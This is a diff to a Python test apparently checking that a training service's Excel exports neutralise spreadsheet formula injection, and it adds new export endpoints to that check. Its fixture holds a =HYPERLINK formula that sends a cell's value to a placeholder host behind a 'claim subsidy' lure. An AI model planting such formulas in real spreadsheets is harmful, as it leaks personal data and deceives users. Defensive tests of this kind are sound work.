@@ -10,7 +10,9 @@ from bson import ObjectId
 
 from service.attendance import roster
 from tests.conftest import bearer
+from tests.factories import beijing_today
 
+YEAR = beijing_today().year  # the programme year of the factories' classes
 HYPERLINK = '=HYPERLINK("http://x.invalid/?d="&F2,"点击领取补贴")'
 
 
@@ -19,7 +21,9 @@ def exports(klass, registration_id):
     return [f"/api/v1/classes/{cid}/roster.xlsx", f"/api/v1/classes/{cid}/roster.xlsx?for_certificates=true",
             f"/api/v1/classes/{cid}/completion.xlsx", f"/api/v1/classes/{cid}/attendance-sheet.xlsx",
             f"/api/v1/reports/classes/{cid}.xlsx", f"/api/v1/reports/archives/{registration_id}.xlsx",
-            f"/api/v1/classes/{cid}/timetable.xlsx", f"/api/v1/classes/{cid}/quotas.xlsx"]
+            f"/api/v1/classes/{cid}/timetable.xlsx", f"/api/v1/classes/{cid}/quotas.xlsx",
+            f"/api/v1/classes/{cid}/trainee-forms.xlsx", f"/api/v1/years/{YEAR}/class-plan.xlsx",
+            f"/api/v1/regions/110000/years/{YEAR}/evaluation.xlsx"]
 
 
 def cells(response):
@@ -64,6 +68,9 @@ def test_every_export_answers_with_text_cells_only(client, stored, admin_token, 
     assert "钱多多" in by_url[exports(stored, "")[2]]  # completion list
     assert "钱多多" in by_url[exports(stored, "")[3]]  # attendance sheet
     assert "=1+1差评" in by_url[exports(stored, "")[4]]  # the anonymous comment in the class report
+    forms = by_url[exports(stored, "")[8]]  # 附1-3: the index and the trainee's own sheet
+    assert forms.count("钱多多") == 2 and forms.count(HYPERLINK) == 2 and "-总经理" in forms
+    assert "第一期/二期:联合班[试点]*?" in by_url[exports(stored, "")[9]]  # 附1-2 class plan
     assert "钱\u000b多多" not in caplog.text
 
 
